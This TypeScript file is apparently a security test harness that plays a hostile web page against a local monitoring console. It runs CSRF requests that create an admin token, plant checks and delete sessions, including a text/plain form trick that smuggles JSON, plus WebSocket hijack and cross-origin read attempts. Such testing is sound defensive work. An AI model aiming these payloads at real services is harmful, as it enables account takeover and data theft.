/**
 * What a hostile page tries against a console it has an address of. Runs in the browser, so it may use nothing from
 * outside of itself. It comes back with whatever it could read; what it changed is for the console's own files to tell.
 */

export interface Target {
  /** Such as `http://127.0.0.1:4680`. */
  readonly origin: string
}

export interface Loot {
  /** What was tried, and from where it was aimed. */
  readonly attempt: string
  /** What the page could read of the answer. */
  readonly read: string
}

/** Resolves when every attempt has been answered or given up. Empty: nothing could be read. */
export async function attack({ origin }: Target): Promise<Loot[]> {
  const loot: Loot[] = []
  const found = (attempt: string, read: unknown) => {
    if (read !== '' && read !== null && read !== undefined && read !== 0) {
      loot.push({ attempt: `${attempt} at ${origin}`, read: String(read).slice(0, 200) })
    }
  }
  const waitMs = 5000
  const attemptsAtOnce = 16
  const inTime = <T>(promise: Promise<T>): Promise<T | null> =>
    Promise.race([promise.catch(() => null), new Promise<null>((resolve) => setTimeout(() => resolve(null), waitMs))])
  const draft = { name: 'Planted', kind: 'tcp', config: { host: '127.0.0.1', port: 9 } }
  const changes: [path: string, method: string, body: string][] = [
    ['/api/rpc/checks.save', 'POST', JSON.stringify({ id: null, draft })],
    ['/api/monitoring/synthetic/checks', 'POST', JSON.stringify(draft)],
    ['/api/rpc/settings.save', 'POST', JSON.stringify({ patch: { logLevel: 'debug' } })],
    ['/api/rpc/tokens.create', 'POST', JSON.stringify({ draft: { name: 'evil', role: 'admin', expiresAt: null } })],
    ['/api/session', 'DELETE', ''],
  ]
  const reads = ['/', '/secret.js', '/api/session', '/health/detailed', '/api/openapi.json', '/api/monitoring/alerts']
  const guises: Record<string, string>[] = [
    { 'content-type': 'application/json' },
    { 'content-type': 'application/json', 'x-belfry-csrf': '1' },
    { 'content-type': 'application/json', authorization: 'Bearer guess' },
    { 'content-type': 'text/plain' },
    { 'content-type': 'text/plain', 'x-belfry-csrf': '1' },
    { 'content-type': 'application/x-www-form-urlencoded' },
    { 'content-type': 'multipart/form-data; boundary=x' },
  ]
  const manners: RequestInit[] = [
    { mode: 'cors', credentials: 'include' },
    { mode: 'cors', credentials: 'omit' },
    { mode: 'no-cors', credentials: 'include' },
    { mode: 'same-origin', credentials: 'include' },
  ]

  const attempts: (() => Promise<void>)[] = []
  const attempt = (name: string, run: () => Promise<unknown>) =>
    void attempts.push(async () => found(name, await inTime(run())))

  // First, for browsers hold sockets back while much else is being loaded.
  for (const path of ['/ws', '/']) {
    attempt(`WebSocket ${path}`, async () => {
      const socket = new WebSocket(`${origin.replace('http', 'ws')}${path}`)
      const calls = [
        { type: 'call', id: 1, name: 'checks.save', input: { id: null, draft } },
        { type: 'call', id: 2, name: 'settings.get', input: {} },
      ]
      return new Promise((resolve) => {
        const heard: unknown[] = []
        socket.onopen = () => {
          heard.push('it opened')
          for (const call of calls) socket.send(JSON.stringify(call))
          setTimeout(() => resolve(heard.join()), 500)
        }
        socket.onmessage = ({ data }) => heard.push(data)
        socket.onclose = () => resolve(heard.join())
      })
    })
  }

  for (const manner of manners) {
    const how = `fetch ${manner.mode} ${manner.credentials}`
    for (const path of reads) {
      attempt(`${how} ${path}`, async () => (await fetch(`${origin}${path}`, manner)).text())
    }
    for (const [path, method, body] of changes) {
      for (const headers of guises) {
        attempt(`${how} ${method} ${path} as ${JSON.stringify(headers)}`, async () => {
          const sent = method === 'DELETE' ? {} : { body }
          return (await fetch(`${origin}${path}`, { ...manner, ...sent, method, headers })).text()
        })
      }
    }
  }

  for (const [path, method, body] of changes) {
    attempt(`XMLHttpRequest ${path}`, async () => {
      return new Promise((resolve) => {
        const request = new XMLHttpRequest()
        request.open(method, `${origin}${path}`)
        request.withCredentials = true
        request.setRequestHeader('content-type', 'application/json')
        request.onload = () => resolve(request.responseText + request.getAllResponseHeaders())
        request.onerror = () => resolve('')
        request.send(body)
      })
    })
    for (const guise of guises) {
      navigator.sendBeacon(`${origin}${path}`, new Blob([body], { type: guise['content-type'] ?? '' }))
    }
    if (method !== 'POST') continue
    for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
      const frame = document.createElement('iframe')
      frame.name = `form-${path}-${enctype}`
      const form = document.createElement('form')
      Object.assign(form, { action: `${origin}${path}`, method: 'POST', enctype, target: frame.name })
      // As plain text a form can spell JSON: the equals sign ends up in a value that nobody looks at.
      const field = document.createElement('input')
      field.name = enctype === 'text/plain' ? `${body.slice(0, -1)},"rest":"` : 'body'
      field.value = enctype === 'text/plain' ? '"}' : body
      form.append(field)
      document.body.append(frame, form)
      form.submit()
    }
  }

  for (const path of reads) {
    const address = `${origin}${path}`
    attempt(`script ${path}`, async () => {
      const script = document.createElement('script')
      script.src = address
      const loaded = new Promise((resolve) => {
        script.onload = () => resolve('it loaded')
        script.onerror = () => resolve('')
      })
      document.head.append(script)
      return loaded
    })
    attempt(`module ${path}`, async () => Object.keys(await import(/* @vite-ignore */ address)).join() || 'it loaded')
    attempt(`stylesheet ${path}`, async () => {
      const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: address })
      const loaded = new Promise<string>((resolve) => {
        link.onload = () => resolve(`it loaded: ${link.sheet?.cssRules.length}`)
        link.onerror = () => resolve('')
      })
      document.head.append(link)
      return loaded
    })
    attempt(`image ${path}`, async () => {
      const image = new Image()
      image.src = address
      await image.decode()
      return `${image.naturalWidth} pixels`
    })
    for (const rel of ['prefetch', 'preload', 'prerender', 'dns-prefetch']) {
      document.head.append(Object.assign(document.createElement('link'), { rel, href: address, as: 'fetch' }))
    }
    attempt(`EventSource ${path}`, async () => {
      const source = new EventSource(address, { withCredentials: true })
      return new Promise((resolve) => {
        source.onopen = () => resolve('it opened')
        source.onerror = () => {
          source.close()
          resolve('')
        }
      })
    })
    attempt(`worker ${path}`, async () => {
      const worker = new Worker(address)
      return new Promise((resolve) => {
        worker.onmessage = ({ data }) => resolve(data)
        worker.onerror = () => resolve('')
      })
    })
    attempt(`service worker ${path}`, async () => (await navigator.serviceWorker.register(address)).scope)
  }

  // Each of these may take the browser a process of its own.
  for (const path of reads.slice(0, 3)) {
    const address = `${origin}${path}`
    attempt(`frame ${path}`, async () => {
      const frame = document.createElement('iframe')
      frame.src = address
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
      document.body.append(frame)
      await inTime(loaded)
      // A frame of another origin, or the browser's page about a refusal, has no document for us.
      return frame.contentDocument && frame.contentWindow?.location.href !== 'about:blank'
        ? frame.contentDocument.documentElement.outerHTML
        : ''
    })
    attempt(`window ${path}`, async () => {
      const opened = window.open(address)
      await new Promise((resolve) => setTimeout(resolve, 400))
      try {
        return opened && !opened.closed && opened.location.href !== 'about:blank' ? opened.document.body.innerHTML : ''
      } finally {
        opened?.close()
      }
    })
  }

  const perform = async () => {
    for (let next = attempts.shift(); next; next = attempts.shift()) await next()
  }
  await Promise.all(Array.from({ length: attemptsAtOnce }, perform))
  for (const entry of performance.getEntriesByType('resource') as PerformanceResourceTiming[]) {
    if (entry.name.startsWith(`${origin}/`)) found(`size of ${entry.name}`, entry.encodedBodySize)
  }
  return loot
}
